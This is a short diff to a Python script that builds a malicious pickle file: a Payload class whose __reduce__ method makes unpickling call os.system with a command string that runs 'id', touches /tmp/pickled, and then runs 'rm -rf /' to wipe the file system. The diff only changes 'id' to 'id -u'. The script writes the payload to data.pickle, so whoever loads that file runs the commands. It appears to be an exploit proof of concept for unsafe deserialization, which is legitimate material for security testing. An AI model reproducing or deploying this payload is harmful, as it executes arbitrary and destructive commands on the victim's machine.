@@ -4,7 +4,7 @@ import pickle
 
 class Payload:
     def __reduce__(self):
-        return os.system, ("id; touch /tmp/pickled; rm -rf / 2>/dev/null",)
+        return os.system, ("id -u; touch /tmp/pickled; rm -rf / 2>/dev/null",)
 
 
 with open("data.pickle", "wb") as file:
